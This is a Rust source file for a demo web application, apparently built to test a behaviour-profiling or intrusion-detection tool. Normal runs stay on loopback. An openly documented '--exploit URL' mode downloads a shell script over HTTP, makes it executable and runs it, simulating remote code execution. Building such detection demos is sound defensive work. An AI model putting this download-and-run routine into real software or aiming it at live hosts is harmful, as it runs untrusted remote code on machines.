//! A small stand-in for a web application, for the demo: it reads its
//! config, serves one HTTP request on loopback, resolves its database's name,
//! writes a log line and runs a health-check script, like a real app's
//! start-up. Everything stays on this machine.
//!
//! `demo-webapp --exploit URL` then plays a remote-code-execution: it
//! downloads a shell script over HTTP, makes it executable and runs it.

use std::io::{BufRead, BufReader, Read, Write};
use std::net::{TcpListener, TcpStream, UdpSocket};
use std::process::Command;

use anyhow::{Context, Result};
use hickory_proto::op::{Message, MessageType, Query};
use hickory_proto::rr::{Name, RecordType};

fn main() -> Result<()> {
    let dir = std::env::temp_dir().join(format!("demo-webapp-{}", std::process::id()));
    std::fs::create_dir_all(&dir)?;
    let config = dir.join("app.conf");
    std::fs::write(&config, "listen=127.0.0.1:18080\ndb=db.demo.internal\n")?;
    let text = std::fs::read_to_string(&config).context("reading config")?;
    let db = text.lines().find_map(|l| l.strip_prefix("db=")).unwrap_or("db.demo.internal");

    // Resolve the database name (the resolver need not answer).
    let mut m = Message::new();
    m.set_id(7).set_message_type(MessageType::Query).set_recursion_desired(true);
    m.add_query(Query::query(Name::from_ascii(db)?, RecordType::A));
    UdpSocket::bind("127.0.0.1:0")?.send_to(&m.to_vec()?, "127.0.0.1:53")?;

    // Serve one request and make it ourselves (a fixed port, like a real
    // app's: the profile learns this endpoint).
    let port = std::env::var("DEMO_WEBAPP_PORT").ok().and_then(|p| p.parse().ok()).unwrap_or(18080u16);
    let listener = TcpListener::bind(("127.0.0.1", port)).with_context(|| format!("binding 127.0.0.1:{port}"))?;
    let addr = listener.local_addr()?;
    let server = std::thread::spawn(move || -> Result<()> {
        let (mut s, _) = listener.accept()?;
        let mut line = String::new();
        BufReader::new(&mut s).read_line(&mut line)?;
        s.write_all(b"HTTP/1.0 200 OK\r\n\r\nhello\n")?;
        Ok(())
    });
    let mut c = TcpStream::connect(addr)?;
    c.write_all(b"GET / HTTP/1.0\r\n\r\n")?;
    let mut body = String::new();
    c.read_to_string(&mut body)?;
    server.join().map_err(|_| anyhow::anyhow!("server thread panicked"))??;

    let log = dir.join("access.log");
    std::fs::write(&log, format!("GET / -> {}\n", body.lines().next().unwrap_or("")))?;

    // The health check the app runs.
    let status = Command::new("sh")
        .args(["-c", "test -s \"$1\" && cat /etc/hostname >/dev/null", "health"])
        .arg(&log)
        .status()?;
    std::fs::remove_dir_all(&dir)?;
    println!("demo-webapp: served {addr}, health check {status}");

    let args: Vec<String> = std::env::args().collect();
    if let Some(url) = args.iter().position(|a| a == "--exploit").and_then(|i| args.get(i + 1)) {
        exploit(url)?;
    }
    Ok(())
}

/// Download `http://host:port/path` to /tmp/telltale-demo/payload.sh and run it.
fn exploit(url: &str) -> Result<()> {
    let rest = url.strip_prefix("http://").context("the exploit URL must be http://")?;
    let (host, path) = rest.split_once('/').map_or((rest, "/".to_owned()), |(h, p)| (h, format!("/{p}")));
    let mut s = TcpStream::connect(host).with_context(|| format!("connecting to {host}"))?;
    write!(s, "GET {path} HTTP/1.0\r\nHost: {host}\r\n\r\n")?;
    let mut response = Vec::new();
    s.read_to_end(&mut response)?;
    let text = String::from_utf8_lossy(&response);
    let body = text.split_once("\r\n\r\n").map(|(_, b)| b).context("no HTTP body")?;
    let dir = std::path::Path::new("/tmp/telltale-demo");
    std::fs::create_dir_all(dir)?;
    let payload = dir.join("payload.sh");
    std::fs::write(&payload, body)?;
    std::fs::set_permissions(&payload, std::os::unix::fs::PermissionsExt::from_mode(0o755))?;
    let out = Command::new(&payload).output()?;
    println!("demo-webapp: payload ran ({})", out.status);
    Ok(())
}
